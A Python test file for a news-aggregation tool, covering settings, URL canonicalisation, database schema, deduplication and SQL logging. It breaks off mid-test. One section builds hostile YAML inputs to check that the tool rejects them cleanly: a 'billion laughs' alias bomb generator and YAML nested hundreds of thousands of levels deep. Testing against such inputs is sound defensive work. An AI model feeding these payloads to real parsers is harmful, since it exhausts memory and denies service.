"""Tests for vesti.py, in the order of its sections.

Real parts wherever they are cheap: SQLite files in a temp dir, HTTP servers
on 127.0.0.1 that misbehave on purpose, a fake Ollama speaking /api/chat, and
the real-world corpus in ../shared/corpus. Those servers and fakes, and the
fixtures, are in conftest.py; the browser driver is in tests/chromium.py.
"""

import base64
import contextlib
import copy
import csv
import dataclasses
import datetime
import gzip
import html
import http.client
import http.server
import functools
import io
import itertools
import json
import collections
import logging
import os
import pathlib
import queue
import random
import re
import resource
import select
import shlex
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import tracemalloc
import urllib.parse
import xml.etree.ElementTree as ElementTree
import zlib

import pytest
import yaml
from telethon.tl import types as tg

import vesti
from conftest import (BACKEND, CORPUS, ROOT, SOURCES_YAML, VESTI, Web, both, make_settings,
                      postgres_only, restarts_postgres, rss_source, wait_for, write_sources)
from tests.chromium import press, visible
from tests.fakes import FakeBotApi, FakeOllama, FakeTelegram, WebhookReceiver
from tests.servers import DripServer, FeedServer, SlowClients, TcpListener

REAL_FEEDS = sorted(p for p in (CORPUS / "feeds" / "real").iterdir()
                    if p.suffix not in (".tsv", ".md"))
ILLFORMED_FEEDS = sorted(p for p in (CORPUS / "feeds" / "illformed").rglob("*")
                         if p.is_file() and p.suffix not in (".tsv", ".md"))


# Shared helpers: feeds, a home's intake, and what it stored -------------------

def rss(items, title="Test feed"):
    """An RSS 2.0 document; items are dicts with guid, link, title, text."""
    body = "".join(
        f"<item><guid>{i['guid']}</guid><link>{i.get('link', '')}</link>"
        f"<title>{i.get('title', i['guid'])}</title>"
        f"<description><![CDATA[{i.get('text', 'Text of ' + i['guid'] + ' ' * 3 + 'x' * 60)}]]></description>"
        + (f"<pubDate>{i['date']}</pubDate>" if "date" in i else "")
        + "</item>" for i in items)
    return (f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
            f"<title>{title}</title><link>http://example.com/</link>"
            f"<lastBuildDate>Mon, 30 Nov 2026 10:00:00 GMT</lastBuildDate>"
            f"{body}</channel></rss>").encode("utf-8")


def items(n, start=0, host="http://example.com"):
    return [{"guid": f"post-{k}", "link": f"{host}/post/{k}", "title": f"Post number {k}",
             "text": f"Article {k} about the Linux kernel. " + "Body sentence. " * 10}
            for k in range(start, start + n)]


def ago(seconds):
    """UTC text of `seconds` ago, as the database keeps times."""
    return vesti.utc_text(time.time() - seconds)


def intake(home, sources, **settings):
    """Settings, database and registry for these sources, synced."""
    write_sources(home / "sources.yaml", sources)
    s = make_settings(home, **settings)
    registry, db = vesti.open_intake(s)
    return s, db


def crawl(s, db, selection=("all", None)):
    return vesti.crawl_rss(db, s, selection, quiet=True)


def source_row(db, slug):
    return db.conn().execute("SELECT * FROM sources WHERE slug = ?", (slug,)).fetchone()


def state_row(db, slug):
    return db.conn().execute("SELECT r.* FROM rss_state r JOIN sources s ON s.id = r.source_id "
                             "WHERE s.slug = ?", (slug,)).fetchone()


def posts_of(db, slug):
    return db.conn().execute("SELECT p.* FROM posts p JOIN sources s ON s.id = p.source_id "
                             "WHERE s.slug = ? ORDER BY p.id", (slug,)).fetchall()


def runs_of(db, slug):
    return db.conn().execute("SELECT r.* FROM runs r JOIN sources s ON s.id = r.source_id "
                             "WHERE s.slug = ? ORDER BY r.id", (slug,)).fetchall()


def stored_posts(conn):
    """{id: row} of every post, by id."""
    return {row["id"]: row for row in conn.execute("SELECT * FROM posts ORDER BY id")}


def post_row(conn, post_id):
    """A post's row as the database holds it now."""
    return conn.execute("SELECT * FROM posts WHERE id = ?", (post_id,)).fetchone()


def first_post(conn):
    """The row of the first post stored."""
    return conn.execute("SELECT * FROM posts ORDER BY id LIMIT 1").fetchone()


def post_ids(conn):
    """The ids of every post, in order."""
    return [row[0] for row in conn.execute("SELECT id FROM posts ORDER BY id")]


def statuses(conn):
    """{id: the editors' decision (status)} of every post, by id."""
    return dict(conn.execute("SELECT id, status FROM posts ORDER BY id").fetchall())


def decision_of(conn, post_id):
    """(status, decided_by) of a post."""
    return tuple(conn.execute("SELECT status, decided_by FROM posts WHERE id = ?",
                              (post_id,)).fetchone())


def story_ids(conn):
    """Each post's story_id as stored (None: it stands alone), by id."""
    return [row[0] for row in conn.execute("SELECT story_id FROM posts ORDER BY id")]


def stories_of(conn):
    """{post id: the story it is in, its own id when it stands alone}."""
    return dict(conn.execute("SELECT id, coalesce(story_id, id) FROM posts ORDER BY id").fetchall())


def last_message_read(db):
    """The id of the last Telegram message read (one channel's state)."""
    return db.conn().execute("SELECT last_message_id FROM tg_state").fetchone()[0]


def cli_env(env=None):
    """The environment of a user's vesti.py: none of the test run's settings."""
    full_env = {k: v for k, v in os.environ.items() if not k.startswith(("VESTI_", "RSS_", "OLLAMA_", "TG_"))}
    if BACKEND["db"]:
        full_env["VESTI_DB"] = BACKEND["db"]
    full_env.update(env or {})
    return full_env


def cli(*args, cwd, env=None, timeout=60):
    """Run vesti.py as a user would."""
    return subprocess.run([*VESTI, *args], cwd=cwd,
                          env=cli_env(env), capture_output=True, text=True, timeout=timeout)


def first_lines(process, count=1):
    """The first `count` lines a process wrote to its stdout pipe, read a
    byte at a time: a buffered readline() takes whatever else has come
    too, and communicate(), which reads the pipe itself, never sees it."""
    said = b""
    while said.count(b"\n") < count:
        byte = os.read(process.stdout.fileno(), 1)
        if not byte:
            break
        said += byte
    return said.decode()


def ended(process, timeout=20):
    """(stdout, stderr) of a process told to stop, once it has ended. One
    still running after `timeout` seconds is asked where its threads are
    (SIGUSR1) and fails the test with its answer."""
    try:
        return process.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        process.send_signal(signal.SIGUSR1)
        time.sleep(1)
        process.kill()
        _, err = process.communicate()
        pytest.fail(f"{shlex.join(map(str, process.args[-3:]))} still ran {timeout} s after "
                    f"it was told to stop; where its threads were:\n{err[-8000:]}")


# Settings ---------------------------------------------------------------------

def test_settings_defaults_match_the_contract():
    s = vesti.load_settings(environ={}, env_file=None)
    assert (s.db, s.sources, s.timeout, s.max_bytes, s.max_entries) == \
        ("vesti.db", "sources.yaml", 20, 10485760, 200)
    assert (s.dead_after, s.host_delay, s.concurrency, s.workers) == (5, 1.0, 8, 4)
    assert (s.ollama_url, s.ollama_model, s.ollama_timeout) == \
        ("http://127.0.0.1:11434", "qwen2.5:7b", 120)
    assert (s.lease_seconds, s.max_attempts, s.web_host, s.web_port, s.web_user) == \
        (900, 5, "127.0.0.1", 8080, "admin")
    assert s.user_agent.startswith(f"VESTI/{vesti.__version__}")


def test_env_file_is_read_and_the_environment_wins(tmp_path):
    env_file = tmp_path / ".env"
    env_file.write_text("\ufeff# comment\nRSS_TIMEOUT=7\nexport RSS_CONCURRENCY='3'\nOLLAMA_URL=\n"
                        "VESTI_WEB_PASSWORD=pw # the editors' password\n"
                        "VESTI_WEB_USER='ed # itor'\n", encoding="utf-8")
    s = vesti.load_settings(environ={"RSS_CONCURRENCY": "5"}, env_file=str(env_file))
    assert (s.timeout, s.concurrency, s.ollama_url) == (7, 5, "")
    assert (s.web_password, s.web_user) == ("pw", "ed # itor")


def test_a_misspelt_setting_in_env_is_warned_about(tmp_path, caplog):
    env_file = tmp_path / ".env"
    env_file.write_text("VESTI_WEB_PASWORD=secret\nOTHER_TOOL=1\n")
    with caplog.at_level(logging.WARNING, logger="vesti"):
        s = vesti.load_settings(environ={}, env_file=str(env_file))
    assert s.web_password == ""
    assert [r.getMessage() for r in caplog.records] == \
        [f"{env_file}: unknown setting VESTI_WEB_PASWORD (known: see .env.example)"]


@pytest.mark.parametrize("name,value", [("RSS_TIMEOUT", "soon"), ("RSS_MAX_BYTES", "-1"),
                                        ("VESTI_WORKERS", "0"), ("OLLAMA_URL", "localhost:11434"),
                                        ("RSS_TIMEOUT", "inf"), ("VESTI_LEASE_SECONDS", "nan"),
                                        ("VESTI_WORKERS", "2.5"), ("VESTI_WEB_PORT", "99999")])
def test_a_bad_setting_stops_the_command_with_one_line_and_exit_2(tmp_path, name, value):
    (tmp_path / "sources.yaml").write_text(SOURCES_YAML.format(sources="  []"))
    result = cli("status", cwd=tmp_path, env={name: value})
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and name in result.stderr
    assert "Traceback" not in result.stderr


# Settings: hostile or absurd values -------------------------------------------

def alias_bomb(levels=7):
    """The "billion laughs" shape: each anchor is nine aliases of the last."""
    nested = ["&x0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    nested += [f"&x{n} [" + ", ".join([f"*x{n - 1}"] * 9) + "]" for n in range(1, levels)]
    return "[" + ", ".join(nested) + "]"


A_SOURCE = '  - slug: a\n    crawler: rss\n    url: "http://x.test/feed"\n'


@pytest.mark.parametrize("extra", [
    f"    name: {alias_bomb()}\n",
    "    ? [a, b]\n    : x\n",
    "    name: " + "[" * 5000 + "]" * 5000 + "\n",
    "    name: " + "[" * 200000 + "]" * 200000 + "\n",
    "    name: &n x\n    direction: *n\n",
    "    priority: 100000000000000000000000\n",
], ids=["alias-bomb", "non-scalar-key", "5000-deep", "200000-deep", "one-alias", "huge-priority"])
def test_a_hostile_sources_yaml_is_a_one_line_error(home, extra):
    (home / "sources.yaml").write_text(SOURCES_YAML.format(sources=A_SOURCE + extra))
    result = cli("status", cwd=home, timeout=30)
    assert result.returncode == 2, result.stderr[-2000:]
    assert result.stderr.count("\n") == 1 and "sources.yaml" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_url_that_does_not_parse_is_a_one_line_error(home):
    (home / "sources.yaml").write_text(SOURCES_YAML.format(
        sources='  - slug: a\n    crawler: rss\n    url: "http://[::1"\n'))
    result = cli("status", cwd=home)
    assert result.returncode == 2, result.stderr[-2000:]
    assert result.stderr.count("\n") == 1 and "source 'a'" in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("name,value", [("VESTI_DB", ""), ("VESTI_LEASE_SECONDS", "1e308"),
                                        ("VESTI_WEB_USER", "a:b"), ("RSS_TIMEOUT", "1e308"),
                                        ("VESTI_CRAWL_EVERY", "0s")])
def test_an_absurd_setting_stops_the_command_with_one_line_and_exit_2(home, name, value):
    write_sources(home / "sources.yaml", [rss_source("a", "http://x.test/feed")])
    result = cli("status", cwd=home, env={name: value})
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert result.stderr.count("\n") == 1 and name in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("args,env,named", [
    (("status",), {"VESTI_DB": ":memory:"}, "VESTI_DB"),
    (("run", "--workers", "1"), {"VESTI_DB": ":memory:", "VESTI_WEB_PORT": "0"}, "VESTI_DB"),
    (("status", "--db", ":memory:"), {}, "--db"),
    (("copy-db", "--to", ":memory:"), {}, "--to"),
], ids=["status", "run", "--db", "copy-db"])
def test_an_in_memory_database_is_refused_with_one_line_and_exit_2(home, args, env, named):
    """Each connection (every thread, the page, the workers) would open
    another, empty database."""
    write_sources(home / "sources.yaml", [rss_source("a", "http://x.test/feed")])
    result = cli(*args, cwd=home, env=env)
    assert result.returncode == 2, (result.stdout, result.stderr[-2000:])
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"vesti: {named}: ") and \
        ":memory:" in lines[0] and "connection" in lines[0], lines
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("db,said", [
    ("postgresql+psycopg://vesti:Pg5ecretPW@127.0.0.1:1/vesti", "postgresql+psycopg:// URL"),
    ("mysql://vesti:Pg5ecretPW@127.0.0.1/vesti", "mysql:// URL"),
    ("host=127.0.0.1 port=1 password=Pg5ecretPW", "key=value connection string"),
    ("PostgreSQL://vesti:Pg5ecretPW@127.0.0.1:1/vesti", "cannot open the database"),
])
def test_a_database_named_otherwise_than_a_file_or_url_is_refused_without_its_password(home, db,
                                                                                   said):
    """Taken for a SQLite file's name, such a setting was shown whole in the
    error, or became a file named after the password. A URL's scheme is in
    any case (PostgreSQL:// is a PostgreSQL URL)."""
    write_sources(home / "sources.yaml", [rss_source("a", "http://x.test/feed")])
    result = cli("status", cwd=home, env={"VESTI_DB": db, "VESTI_BUSY_TIMEOUT": "1"})
    assert result.returncode == 2, (result.stdout, result.stderr[-2000:])
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and said in lines[0], lines
    assert "Pg5ecretPW" not in result.stdout + result.stderr
    assert not [p for p in home.iterdir() if "Pg5ecretPW" in p.name]


def test_a_nul_byte_in_the_env_file_is_one_line_naming_the_file_and_line(home):
    write_sources(home / "sources.yaml", [rss_source("a", "http://x.test/feed")])
    (home / ".env").write_bytes(b"RSS_TIMEOUT=5\nVESTI_DB=ves\x00ti.db\n")
    result = cli("status", cwd=home)
    assert result.returncode == 2, (result.stdout, result.stderr[-2000:])
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and ".env:2:" in lines[0] and "NUL" in lines[0], lines
    assert "Traceback" not in result.stderr


def test_an_opml_feed_whose_url_does_not_parse_is_skipped_with_a_note(home):
    write_sources(home / "sources.yaml", [rss_source("a", "http://x.test/feed")])
    (home / "bad.opml").write_text(
        '<?xml version="1.0"?><opml version="2.0"><body>'
        '<outline text="Broken" xmlUrl="http://[::1/x"/>'
        '<outline text="Good" xmlUrl="https://good.example/feed"/></body></opml>')
    result = cli("opml-import", "bad.opml", cwd=home)
    assert result.returncode == 0, result.stderr[-2000:]
    assert "1 feeds added" in result.stdout and "1 skipped" in result.stdout
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "http://[::1/x" in lines[0] and "skipped" in lines[0], lines
    assert "Traceback" not in result.stderr
    assert [s.url for s in vesti.load_registry(str(home / "sources.yaml")).sources] == \
        ["http://x.test/feed", "https://good.example/feed"]


# Processes --------------------------------------------------------------------

class LingeringSet(set):
    """A set whose answer about one token lingers after the look-up, so that
    threads looking it up at once all look before any of them can add it."""

    def __init__(self, lingering):
        super().__init__()
        self.lingering = lingering

    def __contains__(self, token):
        found = super().__contains__(token)
        if token == self.lingering:
            time.sleep(0.05)
        return found


def test_a_turn_begun_by_threads_at_once_is_new_to_one_and_every_turn_ends():
    """complete_and_claim tells a turn done again from a new one by its
    claim token: no thread may lose another's token or take it for its own."""
    process = vesti.Process()
    process.turns_begun = LingeringSet("shared")
    threads = 4
    start, results = threading.Barrier(threads), [None] * threads

    def turns(k):
        start.wait()
        new_to_me = not process.begin_turn("shared")
        again = []
        for n in range(50):
            again.append(process.begin_turn(f"{k}-{n}"))
            again.append(process.begin_turn(f"{k}-{n}"))      # done again before it ended
            process.end_turn(f"{k}-{n}")
        results[k] = new_to_me, again
    running = [threading.Thread(target=turns, args=(k,)) for k in range(threads)]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join()
    assert None not in results
    assert sum(new_to_me for new_to_me, _ in results) == 1
    assert all(again == [False, True] * 50 for _, again in results)
    assert process.turns_begun == {"shared"}
    process.end_turn("shared")
    assert not process.turns_begun


# Text, time and URLs: canonical URLs ------------------------------------------

URL_VECTORS = json.loads((CORPUS / "urls" / "vectors.json").read_text(encoding="utf-8"))

# Where the sources disagree, VESTI sides with the ones that keep the link an
# editor clicks intact: parameters keep their order and spelling (DuckDuckGo,
# miniflux, url-normalize), a fragment is dropped (w3lib, courlan strict) since
# feeds use it for tracking (#tk.rss_all) far more often than to tell entries
# apart (that case is handled per feed: see test_fragment_only_links_*), an
# empty path becomes "/", and tracker names match case-insensitively (miniflux).
# Rows that decide the other way on one of these, or that test parameter
# allow-lists, blank-value rewriting or component-level functions, are skipped
# by the reason below.
def _url_vector_skip(v):
    function, categories = v["function"], v["category"].split(";")
    source = v["source"].split("@")[0]
    if v["level"] != "url":
        return "component-level function"
    if "://" not in v["input"]:
        return "relative input: VESTI resolves links against the feed first"
    if "query_order" in categories or "query_encoding" in categories:
        return "we keep parameter order and encoding"
    if "query_blank" in categories or "whitespace" in categories:
        return "blank values and junk are left as they are"
    if "filter_params=True" in function or "url_query_cleaner" in function or (
            "query_filter" in categories and "tracking" not in categories):
        return "allow-list filtering is not tracking removal"
    if source == "niksite/url-normalize" and "utm_" in v["input"]:
        return "url-normalize with filtering off keeps trackers; we drop them"
    if "keep_fragments=True" in function or ("fragment" in categories and (
            source in ("miniflux/v2", "niksite/url-normalize")
            or (source == "adbar/courlan" and "strict=True" not in function))):
        return "we drop fragments"
    if "strict=True" in function and "fragment" not in categories:
        return "courlan strict drops non-tracking parameters"
    if "allowlisted" in v["input"] + v["options"] or "bad." in v["input"]:
        return "DuckDuckGo exception config"
    if source.startswith("duckduckgo") and "msclkid" in v["input"]:
        return "DuckDuckGo's 26-name list keeps utm_id and msclkid; we drop them"
    if "FBCLID" in v["input"]:
        return "we match tracker names case-insensitively (as miniflux does)"
    if v["expected"] == "" or "ref=" in v["input"]:
        return "ref= is kept: miniflux drops it only for the site's own host"
    if source == "adbar/courlan" and re.search(r"aff|_source", v["input"]):
        return "courlan's name patterns (*affiliate*, *_source) would drop content parameters"
    return None


def same_url(result, expected, ignore_order):
    """Equal as resources: an empty path is "/", a query compares decoded."""
    a, b = urllib.parse.urlsplit(result), urllib.parse.urlsplit(expected)
    qa, qb = (urllib.parse.parse_qsl(x.query, keep_blank_values=True) for x in (a, b))
    if ignore_order:
        qa, qb = sorted(qa), sorted(qb)
    return (a.scheme, a.netloc, a.path or "/", qa, a.fragment) == \
        (b.scheme, b.netloc, b.path or "/", qb, b.fragment)


CHECKED_URL_VECTORS = [v for v in URL_VECTORS if not _url_vector_skip(v)]


@pytest.mark.parametrize("vector", CHECKED_URL_VECTORS, ids=[str(v["id"]) for v in CHECKED_URL_VECTORS])
def test_canonical_url_against_the_corpus_vectors(vector):
    result = vesti.canonical_url(vector["input"])
    assert same_url(result, vector["expected"], "ignoring query order" in vector["note"]), \
        (result, vector["expected"], vector["source"])


def test_enough_url_vectors_are_checked():
    categories = {c for v in CHECKED_URL_VECTORS for c in v["category"].split(";")}
    assert len(CHECKED_URL_VECTORS) >= 50
    assert {"tracking", "fragment", "host_case", "default_port", "no_change"} <= categories


@pytest.mark.parametrize("url,expected", [
    ("https://news.example/a?yclid=123&id=7", "https://news.example/a?id=7"),
    ("https://news.example/a?_openstat=ZGlyZWN0&id=7&ysclid=lq1", "https://news.example/a?id=7"),
    ("HTTPS://News.Example:443/a#comments", "https://news.example/a"),
    ("http://news.example:8080/a?UTM_SOURCE=x", "http://news.example:8080/a"),
    ("https://www.heise.de/news/x.html?wt_mc=rss.red.ho.ho.rdf.beitrag.beitrag",
     "https://www.heise.de/news/x.html"),
    ("https://www.dailymail.co.uk/a.html?ITO=1490&ns_mchannel=rss&ns_campaign=1490",
     "https://www.dailymail.co.uk/a.html"),
    ("https://medium.com/p/abc?source=rss----5517fd7b58a6---4", "https://medium.com/p/abc"),
    ("https://shop.example/list?source=catalog&id=2", "https://shop.example/list?source=catalog&id=2"),
])
def test_canonical_url_drops_yandex_and_openstat_trackers(url, expected):
    assert vesti.canonical_url(url) == expected


# Connections, schema and the queue --------------------------------------------

def test_schema_sql_is_what_vesti_applies():
    assert (ROOT / "schema.sql").read_text(encoding="utf-8") == vesti.SCHEMA


def test_database_is_wal_with_busy_timeout_and_migrations_are_idempotent(tmp_path):
    db = vesti.Database(str(tmp_path / "v.db"))
    conn = db.conn()
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert conn.execute("PRAGMA busy_timeout").fetchone()[0] >= 5000
    vesti.migrate(conn)
    vesti.migrate(conn)
    tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")}
    assert {"sources", "posts", "rss_state", "tg_state", "runs"} <= tables


def test_an_up_to_date_database_opens_while_another_process_writes_and_a_changed_one_is_mended(
        tmp_path):
    path = str(tmp_path / "v.db")
    vesti.Database(path).conn().execute("INSERT INTO sources (slug, url) VALUES ('a', 'http://a/')")
    writer = sqlite3.connect(path, isolation_level=None)
    writer.execute("BEGIN IMMEDIATE")               # another process, in a long write
    read = []
    opening = threading.Thread(target=lambda: read.extend(
        tuple(r) for r in vesti.Database(path).conn().execute("SELECT slug FROM sources")))
    opening.start()
    opening.join(20)
    assert read == [("a",)]
    writer.execute("ROLLBACK")
    opening.join()
    writer.execute("DROP INDEX posts_story")        # a schema someone changed by hand
    conn = vesti.Database(path).conn()
    assert conn.execute("SELECT count(*) FROM sqlite_master WHERE name = 'posts_story'").fetchone()[0]


def test_an_older_database_gains_the_missing_columns_and_keeps_its_rows(tmp_path):
    path = tmp_path / "old.db"
    old = sqlite3.connect(path)
    old.execute("CREATE TABLE posts (id INTEGER PRIMARY KEY, source_id INTEGER, text TEXT, "
                "classified INTEGER)")
    old.execute("INSERT INTO posts (source_id, text, classified) VALUES (1, 'kept', 0)")
    old.commit()
    old.close()
    conn = vesti.Database(str(path)).conn()
    row = conn.execute("SELECT text, attempts, status, relevance, undated FROM posts").fetchone()
    assert tuple(row) == ("kept", 0, "new", None, 0)
    assert vesti.queue_sizes(conn)["pending"] == 1


def test_an_older_database_dates_no_post_after_its_fetch(tmp_path):
    """Posts are now stored dated no later than their fetch (a search under
    newest first counts on it); an older database's are dated so too."""
    path = tmp_path / "old.db"
    old = sqlite3.connect(path)
    old.execute("CREATE TABLE posts (id INTEGER PRIMARY KEY, source_id INTEGER, text TEXT, "
                "classified INTEGER, fetched_at TEXT, published_at TEXT)")
    old.executemany("INSERT INTO posts (source_id, text, classified, fetched_at, published_at) "
                    "VALUES (1, ?, 1, '2026-12-01 10:00:00', ?)",
                    [("ahead", "2026-12-01 13:00:00"), ("behind", "2026-12-01 09:00:00")])
    old.commit()
    old.close()
    conn = vesti.Database(str(path)).conn()
    assert [tuple(r) for r in conn.execute("SELECT text, published_at FROM posts ORDER BY id")] \
        == [("ahead", "2026-12-01 10:00:00"), ("behind", "2026-12-01 09:00:00")]


def test_tests_may_insert_rows_naming_only_the_contract_columns(tmp_path):
    conn = vesti.Database(str(tmp_path / "v.db")).conn()
    conn.execute("INSERT INTO sources (slug, name, crawler, url, direction, priority, enabled, "
                 "status, last_fetch, last_error, error_count) VALUES "
                 "('lwn', 'LWN', 'rss', 'https://lwn.net/headlines/rss', 'linux', 0, 1, "
                 "'alive', NULL, NULL, 0)")
    conn.execute("INSERT INTO posts (source_id, text, classified) VALUES (1, 'x', NULL)")
    conn.execute("INSERT INTO posts (source_id, text, classified) VALUES (1, 'y', -1)")
    assert vesti.queue_sizes(conn) == {"pending": 1, "processing": 1, "done_today": 0, "failed": 0}


def draft(url, text, title="T", ext=None):
    return vesti.Draft(ext or url, url, vesti.canonical_url(url), title, text, "full",
                       "2026-11-30 10:00:00")


def test_store_posts_deduplicates_by_text_hash_and_by_canonical_url(tmp_path):
    conn = vesti.Database(str(tmp_path / "v.db")).conn()
    conn.execute("INSERT INTO sources (slug, url) VALUES ('a', 'http://a/'), ('b', 'http://b/')")
    long_text = "A long enough article text to identify the story on its own. " * 2
    first = [draft("http://a.com/1", long_text), draft("http://a.com/2?utm_source=x", "Other " + long_text)]
    assert vesti.store_posts(conn, 1, None, first) == 2
    again = [draft("http://b.com/copy", "  " + long_text.replace(" ", "   "), title="Copy"),
             draft("http://A.COM:80/2?utm_medium=rss", "Rewritten " + long_text),
             draft("http://b.com/3", "Third " + long_text)]
    assert vesti.store_posts(conn, 2, None, again) == 1      # same text; same URL; new
    assert vesti.store_posts(conn, 1, None, [draft("http://a.com/9", long_text)]) == 0
    assert conn.execute("SELECT count(*) FROM posts").fetchone()[0] == 3
    assert [tuple(r) for r in conn.execute("SELECT slug, post_count FROM sources")] == \
        [("a", 2), ("b", 1)]


@both
def test_a_summary_that_several_entries_of_a_feed_share_does_not_merge_them(home, server):
    boilerplate = "Listen to this episode of the show on your favourite podcast app today."
    server.feed("/feed", rss([{"guid": f"ep{k}", "link": f"{server.url}/ep/{k}", "title": f"Ep. {k}",
                               "text": boilerplate} for k in range(3)]))
    s, db = intake(home, [rss_source("pod", server.url + "/feed")])
    assert crawl(s, db).new_posts == 3
    assert {p["sha256"] for p in posts_of(db, "pod")} == {None}
    assert crawl(s, db, ("source", "pod")).new_posts == 0


@both
def test_an_entry_holding_a_nul_byte_is_stored_and_its_feed_stays_alive(home, server):
    """PostgreSQL's text cannot hold U+0000: the byte is left out there, and
    the feed's other entries, its state and its health are stored as ever."""
    server.feed("/feed", rss([{"guid": "g1", "link": f"{server.url}/p/1", "title": "Kernel\x00 news",
                               "text": "The kernel\x00 is out today. " + "More words. " * 6},
                              {"guid": "g2", "link": f"{server.url}/p/2", "title": "Plain"}]),
                etag=None, modified=None)
    s, db = intake(home, [rss_source("nul", server.url + "/feed")], RSS_DEAD_AFTER="2")
    assert crawl(s, db).new_posts == 2
    assert crawl(s, db).new_posts == 0                    # fetched again, known: nothing new
    posts = posts_of(db, "nul")
    assert sorted(p["title"].replace("\x00", "") for p in posts) == ["Kernel news", "Plain"]
    kernel = next(p for p in posts if p["title"].startswith("Kernel"))
    assert kernel["text"].replace("\x00", "").startswith("The kernel is out today.")
    if BACKEND["db"]:
        assert "\x00" not in kernel["title"] + kernel["text"]
    assert (source_row(db, "nul")["status"], source_row(db, "nul")["error_count"]) == ("alive", 0)
    assert [r["status"] for r in runs_of(db, "nul")] == ["ok", "ok"]


@both
def test_entries_without_a_link_are_told_apart_by_their_id(home, server):
    def item(guid, title):
        return {"guid": guid, "link": "", "title": title,
                "text": "A note without a link, long enough to carry its own text: " + title}
    server.feed("/feed", rss([item("n1", "first")]), etag='"1"')
    s, db = intake(home, [rss_source("notes", server.url + "/feed")])
    crawl(s, db)
    server.feed("/feed", rss([item("n2", "second"), item("n1", "first")]), etag='"2"')
    assert crawl(s, db).new_posts == 1
    assert [(p["url"], p["title"]) for p in posts_of(db, "notes")] == [(None, "first"), (None, "second")]


@both
def test_a_fragment_seen_in_an_earlier_fetch_keeps_entries_apart(home, server):
    base = "https://scripting.example/2026/11/30.html"
    server.feed("/feed", rss([{"guid": "a", "link": base + "#a0800", "text": "Morning post. " * 5}]),
                etag='"1"')
    s, db = intake(home, [rss_source("s", server.url + "/feed")])
    crawl(s, db)
    server.feed("/feed", rss([{"guid": "b", "link": base + "#a0915", "text": "Later post. " * 5}]),
                etag='"2"')
    assert crawl(s, db).new_posts == 1
    assert state_row(db, "s")["keep_fragments"] == 1
    assert [p["canonical_url"] for p in posts_of(db, "s")] == [base, base + "#a0915"]


def test_short_texts_never_make_different_posts_collide(tmp_path):
    conn = vesti.Database(str(tmp_path / "v.db")).conn()
    conn.execute("INSERT INTO sources (slug, url) VALUES ('a', 'http://a/')")
    teasers = [draft(f"http://a.com/{k}", "Read more…", title="") for k in range(5)]
    assert vesti.store_posts(conn, 1, None, teasers) == 5
    assert vesti.store_posts(conn, 1, None, teasers) == 0
    assert conn.execute("SELECT count(*) FROM posts WHERE sha256 IS NULL").fetchone()[0] == 5


def sql_lines(output):
    """(milliseconds, statement and its parameters) of each SQL line -vv gave."""
    return re.findall(r"DEBUG vesti\.sql: (\d+\.\d\d) ms: (.*)", output)


@both
def test_vv_logs_every_statement_with_its_time_and_v_logs_none(home):
    write_sources(home / "sources.yaml", [rss_source("lwn", "https://lwn.net/headlines/rss")])
    for args in (["-vv", "status"], ["status", "-vv"]):
        result = cli(*args, cwd=home)
        assert result.returncode == 0, result.stderr
        statements = [statement for _, statement in sql_lines(result.stderr)]
        assert "SELECT count(*), coalesce(max(id), 0) FROM sources" in statements
        assert any(re.fullmatch(r"SELECT id, url FROM sources WHERE slug = (\?|%s); \('lwn'\)", s)
                   for s in statements), statements
    quieter = cli("-v", "status", cwd=home)
    assert quieter.returncode == 0 and "lwn" in quieter.stdout
    assert "vesti.sql" not in quieter.stderr and "SELECT" not in quieter.stderr


def test_a_logged_statement_shows_its_parameters_cut_short(tmp_path, caplog):
    conn = vesti.Database(str(tmp_path / "v.db")).conn()
    values = ["x" * 500, *range(1, 12)]
    with caplog.at_level(logging.DEBUG, logger="vesti.sql"):
        conn.execute(f"SELECT {', '.join('?' * len(values))}", values)
        conn.executemany("INSERT INTO sources (slug, url) VALUES (?, ?)",
                         ((f"s{k}", "http://s/") for k in range(3)))
    select, insert = [r.getMessage() for r in caplog.records if r.name == "vesti.sql"]
    assert f"; ('{'x' * 59}…, 1, 2, 3, 4, 5, 6, 7, 8, 9, … 2 more)" in select
    assert insert.endswith("INSERT INTO sources (slug, url) VALUES (?, ?); "
                           "3 rows, the first: ('s0', 'http://s/')")
    assert conn.execute("SELECT count(*) FROM sources").fetchone()[0] == 3


def with_password(url):
    """The URL with a password in it (a server that trusts the role, as the
    tests' does, takes no notice of it)."""
    if vesti.secrets_of(url):
        return url
    parts = urllib.parse.urlsplit(url)
    place = parts.netloc.rpartition("@")[2]
    netloc = f"{parts.username or ''}:Never-1n-logs@{place}"
    return urllib.parse.urlunsplit(parts._replace(netloc=netloc))


@both
def test_vv_shows_no_password_nor_secret(home, backend, closing):
    write_sources(home / "sources.yaml", [])
    db = with_password(backend) if backend else str(home / "vesti.db")
    env = {k: v for k, v in cli_env({"VESTI_DB": db}).items() if k != "VESTI_WEB_PASSWORD"}
    serve = closing(subprocess.Popen([*VESTI, "-vv", "serve", "--port", "0"], cwd=home,
                                     text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                     env=env))
    said = first_lines(serve, 2)
    password = re.search(r"generated password (\S+),", said)[1]
    _, err = stop_process(serve)
    copy = cli("-vv", "copy-db", "--to", str(home / "copy.db"), cwd=home, env={"VESTI_DB": db})
    assert copy.returncode == 0, copy.stderr
    conn = vesti.Database(backend or db).conn()
    kept, secret = vesti.get_meta(conn, "web_password")[0], vesti.get_meta(conn, "web_secret")[0]
    assert kept.startswith("scrypt:") and len(secret) == 64
    logged = err + copy.stdout + copy.stderr
    salt, digest = kept.split(":")[-2:]
    for never in (password, salt, digest, secret, *vesti.secrets_of(db)):
